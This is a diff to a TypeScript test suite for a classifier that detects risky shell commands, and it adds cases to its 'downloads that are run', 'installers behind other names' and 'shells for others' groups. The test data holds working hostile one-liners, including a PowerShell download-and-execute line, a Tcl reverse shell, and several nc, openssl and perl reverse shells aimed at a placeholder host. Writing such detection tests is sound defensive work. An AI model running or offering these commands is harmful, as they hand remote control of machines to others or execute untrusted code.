@@ -6,7 +6,7 @@ import { commandsOf, commandsOfText } from '../../shared/commands/command.ts';
 import { shellListeners } from '../../shared/commands/listeners.ts';
 import { selfUpdates } from '../../shared/commands/self-update.ts';
 import { at } from '../../shared/model/at.ts';
-import { runs } from '../support/extent.ts';
+import { leftOut, runs } from '../support/extent.ts';
 import { calmMsSince, processorMs } from '../support/processor-time.ts';
 
 const kinds = (text: string) => selfUpdates(commandsOfText(text)).map(({ what }) => what);
@@ -133,6 +133,9 @@ describe('downloads that are run', () => {
     'deno run -A https://h/x.ts',
     'node --import https://h/x.mjs app.js',
     'jbang https://h/X.java',
+    'curl -o /a.jar U; java -javaagent:/a.jar=port=1 -jar /app.jar',
+    'curl -o /a.jar U; java -cp /a.jar Main',
+    "powershell -c \"$w=New-Object Net.WebClient; $w.DownloadFile('https://h/a.exe','C:\\\\a.exe'); Start-Process 'C:\\\\a.exe'\"",
     'lwp-download https://h/a.pl /tmp/a.pl && perl /tmp/a.pl',
     'wget2 -O /tmp/a U; sh /tmp/a',
     'curl U | dd of=/tmp/a status=none; sh /tmp/a',
@@ -176,6 +179,8 @@ describe('downloads that are run', () => {
     'echo "apk add" > readme; cat readme',
     'A="apk add"; echo $A',
     ': apk add',
+    'curl -o /a.json U; java -Dconfig=/a.json -jar /app.jar',
+    "powershell -c \"(New-Object Net.WebClient).DownloadFile('https://h/a.json','C:\\\\a.json'); Get-Content C:\\\\a.json\"",
     'lwp-download https://h/model.bin /models/m && exec app',
     'curl U | dd of=/data/x bs=1M; exec app',
     'dd if=/dev/zero of=/swap bs=1M count=8; exec app',
@@ -194,6 +199,7 @@ describe('installers behind other names', () => {
     'apk --wait 5 add curl',
     'dnf --setopt x=y install curl',
     'script -qc "apk add curl" /dev/null',
+    'parallel -j 2 apk add ::: curl jq',
     'script -q -e -c "apk add curl" /dev/null',
     'flock -nc "apk add curl"',
     'IFS=,; C=apk,add,curl; $C',
@@ -270,6 +276,7 @@ describe('shells for others', () => {
     'zsh -c "zmodload zsh/net/tcp; ztcp h 443; zsh >&\\$REPLY 2>&\\$REPLY 0>&\\$REPLY"',
     'powershell -c "$c = New-Object System.Net.Sockets.TCPClient(\'h\',443); iex $d"',
     'lua -e \'local s=require("socket"); os.execute(x)\'',
+    "tclsh -c 'set s [socket h 443]; while 1 {gets $s c; puts $s [exec sh -c $c]}'",
     'coproc nc h 443; bash <&"${COPROC[0]}" >&"${COPROC[1]}"',
     'coproc openssl s_client -quiet -connect h:443; while read -r l <&"${COPROC[0]}"; do eval "$l"; done',
     'perl -MIO -e \'$c=new IO::Socket::INET(PeerAddr,"h:443");STDIN->fdopen($c,r);system$_ while<>\'',
@@ -286,6 +293,7 @@ describe('shells for others', () => {
     'tcpserver -v 0 22 /usr/sbin/tinysshd /etc/tinyssh',
     'systemd-socket-activate -l 22 dropbear -i',
     'gs-netcat -s secret -l -i',
+    'dropbearmulti dropbear -F -E',
     'tailscaled & tailscale up --ssh',
   ])('%s', (text) => {
     expect(shells(text)).toEqual(['daemon']);
@@ -367,23 +375,26 @@ describe('a verdict', () => {
     );
   });
 
-  it('comes in linear time, however often text stands for itself', () => {
-    const start = processorMs();
-    for (const text of [
-      `A=x; ${'A=$A$A; '.repeat(60)} $A`,
-      `f() { ${'f; '.repeat(50)} }; f`,
-      `${'f'.repeat(3)}() { f1; f1; }; ${'fff; '.repeat(1000)}`,
-      'eval "$A"; '.repeat(10_000),
-      `${'for a in 1 2 3 4 5 6 7 8; do '.repeat(60)} x ${'; done'.repeat(60)}`,
-      '${a:-'.repeat(20_000),
-      `${'${a:-'.repeat(1000)}${'}'.repeat(1000)}`.repeat(20),
-      `echo ${'"$A" '.repeat(20_000)} | sh`,
-      'mkfifo p; '.repeat(10_000),
-      `${'cd a; '.repeat(10_000)}git pull; ./x`,
-      '$((('.repeat(20_000),
-      'echo x > f; sh f; '.repeat(5000),
-    ])
-      verdict(text);
-    expect(calmMsSince(start)).toBeLessThan(30_000);
-  });
+  it.skipIf(leftOut('text that stands for itself, in linear time'))(
+    'comes in linear time, however often text stands for itself',
+    () => {
+      const start = processorMs();
+      for (const text of [
+        `A=x; ${'A=$A$A; '.repeat(60)} $A`,
+        `f() { ${'f; '.repeat(50)} }; f`,
+        `${'f'.repeat(3)}() { f1; f1; }; ${'fff; '.repeat(1000)}`,
+        'eval "$A"; '.repeat(10_000),
+        `${'for a in 1 2 3 4 5 6 7 8; do '.repeat(60)} x ${'; done'.repeat(60)}`,
+        '${a:-'.repeat(20_000),
+        `${'${a:-'.repeat(1000)}${'}'.repeat(1000)}`.repeat(20),
+        `echo ${'"$A" '.repeat(20_000)} | sh`,
+        'mkfifo p; '.repeat(10_000),
+        `${'cd a; '.repeat(10_000)}git pull; ./x`,
+        '$((('.repeat(20_000),
+        'echo x > f; sh f; '.repeat(5000),
+      ])
+        verdict(text);
+      expect(calmMsSince(start)).toBeLessThan(30_000);
+    },
+  );
 });
